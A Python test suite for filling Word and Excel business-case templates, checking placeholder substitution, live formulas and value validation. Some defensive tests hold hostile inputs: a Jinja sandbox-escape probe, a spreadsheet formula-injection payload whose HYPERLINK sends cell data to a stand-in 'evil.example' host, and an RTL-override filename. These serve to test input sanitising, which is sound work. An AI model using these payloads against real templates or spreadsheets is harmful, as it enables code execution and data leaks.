"""Filling business-case templates: the Word and Excel fillers on the demo's own files and on
small files built here, and the checks every typed value goes through first."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName

from content_library.demo.make_files import BUSINESS_CASE_FILE, ROI_CALCULATOR_FILE
from content_library.file_types import sniff, template_fields
from content_library.filling import CannotFill, Value, fill_docx, fill_xlsx
from content_library.services import templates
from content_library.services.templates import Field, read_value, read_values

DEMO_FILES = Path(templates.__file__).resolve().parent.parent / "demo" / "files"


def text(value: str) -> Value:
    return Value("text", value, value)


def checked(kind: str, typed: str, required: bool = False) -> Value | None:
    return read_value(Field("f", "F", kind, required), typed)


# ---- Word ------------------------------------------------------------------------------------


def _word(tmp_path: Path, build) -> Path:
    document = Document()
    build(document)
    path = tmp_path / "template.docx"
    document.save(path)
    return path


def _all_text(document) -> str:
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    for section in document.sections:
        parts += [p.text for p in section.header.paragraphs + section.footer.paragraphs]
    return "\n".join(parts)


def _split_placeholders(document) -> None:
    """Placeholders as Word leaves them after editing: split over runs, bold, in a table,
    in the header and the footer."""
    paragraph = document.add_paragraph()
    paragraph.add_run("Prepared for {")
    paragraph.add_run("{ comp")
    paragraph.add_run("any }")
    paragraph.add_run("} by our team.")
    bold = document.add_paragraph("Investment: ")
    run = bold.add_run("{{")
    run.bold = True
    run = bold.add_run("amount}}")
    run.bold = True
    bold.add_run(" a year, which is ").italic = True
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).paragraphs[0].add_run("Start")
    table.cell(0, 1).paragraphs[0].add_run("{{start_")
    table.cell(0, 1).paragraphs[0].add_run("date}}")
    document.sections[0].header.paragraphs[0].add_run("Business case for {{company}}")
    document.sections[0].footer.paragraphs[0].add_run("{{company}} · confidential")


def test_split_placeholders_in_body_tables_headers_and_footers_are_all_filled(tmp_path):
    source = _word(tmp_path, _split_placeholders)
    assert template_fields(source, sniff(source)) == ["company", "amount", "start_date"]
    filled = Document(io.BytesIO(fill_docx(source, {
        "company": text("Contoso Health"),
        "amount": checked("currency", "$250000"),
        "start_date": checked("date", "2026-03-31"),
    })))
    assert filled.paragraphs[0].text == "Prepared for Contoso Health by our team."
    assert filled.tables[0].cell(0, 1).text == "31 March 2026"
    assert filled.sections[0].header.paragraphs[0].text == "Business case for Contoso Health"
    assert filled.sections[0].footer.paragraphs[0].text == "Contoso Health · confidential"
    assert "{{" not in _all_text(filled) and "}}" not in _all_text(filled)


def test_formatting_of_the_placeholder_and_the_text_around_it_is_kept(tmp_path):
    source = _word(tmp_path, _split_placeholders)
    filled = Document(io.BytesIO(fill_docx(source, {"amount": checked("currency", "1200.5")})))
    runs = filled.paragraphs[1].runs
    value = next(r for r in runs if "1,200.5" in r.text)
    assert value.bold is True and value.text == "1,200.5"
    assert runs[0].text == "Investment: " and not runs[0].bold
    assert any(r.italic and r.text == " a year, which is " for r in runs)


def test_values_with_xml_characters_and_template_code_stay_literal_text(tmp_path):
    source = _word(tmp_path, _split_placeholders)
    hostile = "R&D <Labs> \"Ltd\" {{ 7*7 }} {% if true %}yes{% endif %} {# note #} =1+1"
    data = fill_docx(source, {"company": text(hostile)})
    filled = Document(io.BytesIO(data))
    assert filled.paragraphs[0].text == f"Prepared for {hostile} by our team."
    assert filled.sections[0].footer.paragraphs[0].text == f"{hostile} · confidential"
    assert "49" not in _all_text(filled)
    body = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert "R&amp;D &lt;Labs&gt;" in body


def test_a_line_break_in_a_value_is_a_line_break_and_control_characters_never_reach_word(
        tmp_path):
    source = _word(tmp_path, _split_placeholders)
    value = read_value(Field("company", "Company", "text", False),
                       "First line\r\nsecond\x07line\x0cand\x0bmore")
    assert value.shown == "First line\nsecondlineandmore"
    filled = Document(io.BytesIO(fill_docx(source, {"company": value})))
    assert len(filled.paragraphs) == 2  # \a would have made a new paragraph, \f a page break
    assert "First line\nsecondlineandmore" in filled.paragraphs[0].text


def test_template_code_written_by_the_template_itself_runs_sandboxed(tmp_path):
    def build(document):
        document.add_paragraph("{{ cycler.__init__.__globals__.os }} for {{company}}")

    with pytest.raises(CannotFill):
        fill_docx(_word(tmp_path, build), {"company": text("Acme")})


def test_a_template_whose_text_jinja_cannot_read_is_refused_with_a_sentence(tmp_path):
    def build(document):
        document.add_paragraph("Item {# three for {{company}}")

    with pytest.raises(CannotFill, match="Word templates"):
        fill_docx(_word(tmp_path, build), {"company": text("Acme")})


def test_the_demo_business_case_is_filled_everywhere_and_keeps_its_styles(tmp_path):
    source = DEMO_FILES / BUSINESS_CASE_FILE
    names = template_fields(source, sniff(source))
    values = {name: text(f"<{name}>") for name in names}
    values["annual_revenue"] = checked("currency", "€ 250,000,000")
    values["roi_percent"] = checked("percent", "145.5%")
    data = fill_docx(source, values)
    filled = Document(io.BytesIO(data))
    everything = _all_text(filled)
    assert "{{" not in everything and "}}" not in everything
    assert "Business case: <project_name>" in everything
    assert "<company_name> earns €250,000,000 a year" in everything
    assert "returns 145.5% over three years" in everything
    assert "<cost_manual_work>" in "".join(c.text for t in filled.tables for r in t.rows
                                           for c in r.cells)
    assert filled.sections[0].footer.paragraphs[0].text.startswith("<company_name> · Business case")
    assert filled.paragraphs[0].style.name == "Title"
    assert passes_upload_checks(data, tmp_path, "docx")


def passes_upload_checks(data: bytes, folder: Path, kind: str) -> bool:
    """The filled file passes the very checks an upload passes (macros, OLE, links, DDE)."""
    path = folder / f"filled.{kind}"
    path.write_bytes(data)
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    return sniff(path).kind == kind and not any("vba" in n.lower() for n in names)


# ---- Excel -----------------------------------------------------------------------------------


def _workbook(tmp_path: Path) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = "Inputs"
    cells = {"customer": "B1", "seats": "B2", "price": "B3", "start_date": "B4",
             "discount": "B5", "notes": "B6"}
    for name, cell in cells.items():
        sheet[cell.replace("B", "A")] = name
        book.defined_names[name] = DefinedName(name, attr_text=f"Inputs!${cell[0]}${cell[1:]}")
    sheet["B2"], sheet["B3"], sheet["B5"] = 10, 100, 0.1
    sheet["B5"].number_format = "0%"
    sheet["C1"] = "=B2*B3*(1-B5)"
    sheet["C2"] = '="Offer for "&customer'
    other = book.create_sheet("Summary")
    other["A1"] = "=Inputs!C1"
    path = tmp_path / "calculator.xlsx"
    book.save(path)
    return path


def test_xlsx_values_are_typed_and_formulas_stay_live(tmp_path):
    source = _workbook(tmp_path)
    assert template_fields(source, sniff(source)) == [
        "customer", "seats", "price", "start_date", "discount", "notes"]
    data = fill_xlsx(source, {
        "customer": text("Contoso Health"),
        "seats": checked("number", "1,250"),
        "price": checked("currency", "$99.90"),
        "start_date": checked("date", "2026-03-31"),
        "discount": checked("percent", "12.5%"),
    })
    book = load_workbook(io.BytesIO(data))
    sheet = book["Inputs"]
    assert sheet["B1"].value == "Contoso Health"
    assert sheet["B2"].value == 1250 and sheet["B2"].data_type == "n"
    assert sheet["B3"].value == pytest.approx(99.9) and sheet["B3"].data_type == "n"
    assert sheet["B4"].value == datetime(2026, 3, 31) and sheet["B4"].is_date
    assert sheet["B5"].value == pytest.approx(0.125) and "%" in sheet["B5"].number_format
    assert sheet["B6"].value is None  # left empty: the template's own cell stays
    assert sheet["C1"].value == "=B2*B3*(1-B5)" and sheet["C1"].data_type == "f"
    assert sheet["C2"].value == '="Offer for "&customer'
    assert book["Summary"]["A1"].value == "=Inputs!C1"
    assert set(book.defined_names) >= {"customer", "seats"}
    assert book.calculation.fullCalcOnLoad


def test_a_formula_typed_into_a_text_field_is_stored_as_text_never_evaluated(tmp_path):
    source = _workbook(tmp_path)
    attack = '=HYPERLINK("https://evil.example/?"&B2,"Click")'
    value = read_value(Field("notes", "Notes", "text", False), attack)
    data = fill_xlsx(source, {"notes": value, "customer": text("+1 555 0100"),
                              "seats": text("@SUM(1)")})
    sheet = load_workbook(io.BytesIO(data))["Inputs"]
    for cell, typed in (("B6", attack), ("B1", "+1 555 0100"), ("B2", "@SUM(1)")):
        assert sheet[cell].value == typed and sheet[cell].data_type == "s"
        assert sheet[cell].quotePrefix
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "HYPERLINK" in xml and "<f>HYPERLINK" not in xml and "<f>=HYPERLINK" not in xml


def test_a_named_formula_cell_is_left_alone(tmp_path):
    source = _workbook(tmp_path)
    book = load_workbook(source)
    book.defined_names["total"] = DefinedName("total", attr_text="Inputs!$C$1")
    book.save(source)
    sheet = load_workbook(io.BytesIO(fill_xlsx(source, {"total": text("0")})))["Inputs"]
    assert sheet["C1"].value == "=B2*B3*(1-B5)"


def test_the_demo_roi_calculator_keeps_its_formulas_and_takes_typed_inputs(tmp_path):
    source = DEMO_FILES / ROI_CALCULATOR_FILE
    data = fill_xlsx(source, {
        "company_name": text("Contoso Health"),
        "annual_revenue": checked("currency", "EUR 410,000,000"),
        "user_count": checked("number", "300"),
        "time_saved_pct": checked("percent", "35"),
    })
    book = load_workbook(io.BytesIO(data))
    inputs, calculation = book["Inputs"], book["Calculation"]
    named = {name: book.defined_names[name].attr_text.split("!")[1].replace("$", "")
             for name in ("company_name", "annual_revenue", "user_count", "time_saved_pct",
                          "licence_cost")}
    assert inputs[named["company_name"]].value == "Contoso Health"
    assert inputs[named["annual_revenue"]].value == 410_000_000
    assert inputs[named["user_count"]].value == 300
    assert inputs[named["time_saved_pct"]].value == pytest.approx(0.35)
    assert inputs[named["licence_cost"]].value == 160_000  # not filled: the example stays
    assert calculation["A1"].value == '="Three-year ROI for "&company_name'
    assert calculation["B20"].value == "=E9"
    assert str(calculation["B24"].value).startswith("=IF(")
    assert inputs.data_validations.dataValidation  # the percentage checks survive
    assert passes_upload_checks(data, tmp_path, "xlsx")
    content_types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").decode()
    assert "macroEnabled" not in content_types and "sheet.main+xml" in content_types


# ---- checking values -------------------------------------------------------------------------


@pytest.mark.parametrize("kind, typed, shown, value", [
    ("number", "1,250", "1,250", Decimal(1250)),
    ("number", "1 250.75", "1,250.75", Decimal("1250.75")),
    ("number", "-3.5", "-3.5", Decimal("-3.5")),
    ("number", ".5", "0.5", Decimal("0.5")),
    ("currency", "$1,200,000", "$1,200,000", Decimal(1200000)),
    ("currency", "1 200 €", "1,200 €", Decimal(1200)),
    ("currency", "EUR 1,200.50", "EUR 1,200.50", Decimal("1200.50")),
    ("currency", "-£300", "-£300", Decimal(-300)),
    ("currency", "£-300", "-£300", Decimal(-300)),
    ("currency", "250000", "250,000", Decimal(250000)),
    ("percent", "12.5", "12.5%", Decimal("0.125")),
    ("percent", "12.5%", "12.5%", Decimal("0.125")),
    ("percent", "40 %", "40%", Decimal("0.4")),
    ("date", "2026-03-31", "31 March 2026", date(2026, 3, 31)),
    ("text", "  Contoso  ", "Contoso", "Contoso"),
])
def test_values_are_read_by_kind(kind, typed, shown, value):
    read = checked(kind, typed)
    assert (read.shown, read.typed) == (shown, value)


@pytest.mark.parametrize("kind, typed, says", [
    ("number", "twelve", "Enter a number"),
    ("number", "1,2345", "Enter a number"),
    ("number", "١٢", "Enter a number"),  # Arabic-Indic digits: ASCII only
    ("number", "1e6", "Enter a number"),
    ("number", "12345678901234567", "at most 15 digits"),
    ("currency", "$", "Enter an amount"),
    ("currency", "12.5%", "Enter an amount"),
    ("currency", "$$12", "Enter an amount"),
    ("percent", "%", "Enter a percentage"),
    ("percent", "half", "Enter a percentage"),
    ("date", "31/03/2026", "year-month-day"),
    ("date", "20260331", "year-month-day"),
    ("date", "2026-02-30", "no such date"),
    ("date", "1899-12-31", "from the year 1900"),
    ("date", "2026-03-31" + "x" * 50, "year-month-day"),
    ("text", "x" * 2_001, "at most 2,000 characters"),
])
def test_malformed_values_get_a_sentence_that_says_what_to_type(kind, typed, says):
    with pytest.raises(ValueError, match=says):
        checked(kind, typed)


def test_a_missing_required_value_is_refused_and_an_empty_optional_one_is_no_value():
    with pytest.raises(ValueError, match="required"):
        checked("text", "   ", required=True)
    assert checked("number", "", required=False) is None
    assert checked("date", None, required=False) is None


def test_read_values_names_every_problem_at_once_and_fills_the_company_fields():
    fields = [Field("company_name", "Company", "text", True),
              Field("annual_revenue", "Annual revenue", "currency", True),
              Field("go_live", "Go-live", "date", False),
              Field("seats", "Seats", "number", False)]
    with pytest.raises(templates.Invalid) as refused:
        read_values(fields, {"annual_revenue": "", "go_live": "soon", "extra": "x",
                             "seats": ["3"]}, company="")
    assert set(refused.value.reasons) == {"company", "annual_revenue", "go_live", "extra", "seats"}
    values = read_values(fields, {"annual_revenue": 250000, "seats": 12.5},
                         company="  Contoso\nHealth ")
    assert values["company_name"].typed == "Contoso Health"
    assert values["annual_revenue"].typed == 250000 and values["seats"].shown == "12.5"
    assert "go_live" not in values
    with pytest.raises(templates.Invalid, match="at most 200"):
        read_values(fields, {"annual_revenue": "1"}, company="x" * 201)


@pytest.mark.parametrize("name, kind, label", [
    ("go_live_date", "date", "Go live date"),
    ("project_start", "date", "Project start"),
    ("licence_cost", "currency", "Licence cost"),
    ("total_investment", "currency", "Total investment"),
    ("roi_percent", "percent", "ROI percent"),
    ("revenue_uplift_pct", "percent", "Revenue uplift %"),
    ("discountRate", "percent", "Discount rate"),
    ("user_count", "number", "User count"),
    ("realisation_year1", "percent", "Realisation year 1"),
    ("champion_name", "text", "Champion name"),
])
def test_a_new_field_gets_a_label_and_a_sensible_kind_from_its_name(name, kind, label):
    assert (templates.guess_kind(name), templates.label_for(name)) == (kind, label)


def test_the_filled_file_is_named_after_the_company():
    class Item:
        title = "Business case template for a revenue operations project"

    assert templates.document_name(Item, "Contoso Health", "docx") == \
        "Contoso Health - Business case.docx"
    Item.title = "ROI calculator workbook (three-year return and payback)"
    assert templates.document_name(Item, 'A/B: "C"\u202e <D>', "xlsx") == "A B C D - ROI calculator.xlsx"
